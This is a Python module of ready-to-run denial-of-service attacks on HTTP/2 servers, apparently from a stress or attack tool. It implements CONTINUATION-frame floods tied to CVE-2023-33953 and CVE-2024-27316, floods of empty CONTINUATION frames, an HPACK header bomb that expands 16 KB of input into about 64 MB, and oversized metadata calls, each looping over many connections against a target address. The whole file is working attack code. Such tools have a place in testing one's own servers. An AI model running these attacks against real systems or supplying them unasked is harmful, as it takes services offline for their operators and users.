"""Attacks with headers: that never end, that are too large, that grow when they are read."""

import time

from .wire import CONTINUATION, END_HEADERS, END_STREAM, HEADERS, again_and_again, frame, request, text

SIZE = 16_384


def length(count: int) -> bytes:
    """The length of a string of HPACK that is not compressed."""
    encoded, count = b"\x7f", count - 127
    while count >= 128:
        encoded += bytes([count & 127 | 128])
        count >>= 7
    return encoded + bytes([count])


def _unfinished(address: str, seconds: float, beginning: bytes, more: bytes, pause: float = 0) -> str:
    def attack(peer):
        if peer.stream < 0:
            peer.send(frame(HEADERS, 0, peer.next_stream(), request() + beginning))
        peer.send(frame(CONTINUATION, 0, 1, more))
        sent[0] += len(more)
        time.sleep(pause)

    sent = [0]
    connections = again_and_again(address, seconds, attack)
    return f"{sent[0] >> 10} KiB on {connections} connections"


def continuation_of_one_header(address: str, seconds: float) -> str:
    """One header of 200 MiB, frame by frame (CVE-2023-33953)."""
    return _unfinished(address, seconds, b"\0" + text("x-a") + length(200 << 20), b"y" * SIZE)


def continuation_of_many_headers(address: str, seconds: float) -> str:
    """Small headers without an end (the CONTINUATION flood of CVE-2024-27316 and its like)."""
    entry = b"\0" + text("x-a") + text("b" * 100)
    return _unfinished(address, seconds, b"", entry * (SIZE // len(entry)))


def continuation_of_nothing(address: str, seconds: float) -> str:
    """Empty CONTINUATION frames without an end."""
    def attack(peer):
        if peer.stream < 0:
            peer.send(frame(HEADERS, 0, peer.next_stream(), request()))
        peer.send(frame(CONTINUATION, 0, 1) * 1000)
        frames[0] += 1000

    frames = [0]
    connections = again_and_again(address, seconds, attack)
    return f"{frames[0]} frames on {connections} connections"


def header_bomb(address: str, seconds: float) -> str:
    """One entry of the table of 4,000 bytes, named 16,000 times in a block: 64 MB for 16 KB."""
    value = b"\x40" + text("x-a") + length(3_900) + b"b" * 3_900

    def attack(peer):
        stream = peer.next_stream()
        peer.send(
            frame(HEADERS, END_STREAM, stream, request() + value)
            + frame(CONTINUATION, END_HEADERS, stream, b"\xbe" * 16_000))
        bombs[0] += 1

    bombs = [0]
    connections = again_and_again(address, seconds, attack)
    return f"{bombs[0]} bombs on {connections} connections"


def large_metadata(address: str, seconds: float) -> str:
    """Calls with 300 kB of metadata, whose settings were never acknowledged."""
    entry = b"\0" + text("x-a") + text("b" * 100)
    block = request() + entry * (300_000 // len(entry))

    def attack(peer):
        stream = peer.next_stream()
        parts = [block[start:start + SIZE] for start in range(0, len(block), SIZE)]
        out = frame(HEADERS, END_STREAM, stream, parts[0])
        for part in parts[1:-1]:
            out += frame(CONTINUATION, 0, stream, part)
        peer.send(out + frame(CONTINUATION, END_HEADERS, stream, parts[-1]))
        calls[0] += 1

    calls = [0]
    connections = again_and_again(address, seconds, attack, acknowledges=False)
    return f"{calls[0]} calls on {connections} connections"


ATTACKS = [
    continuation_of_one_header, continuation_of_many_headers, continuation_of_nothing, header_bomb, large_metadata]
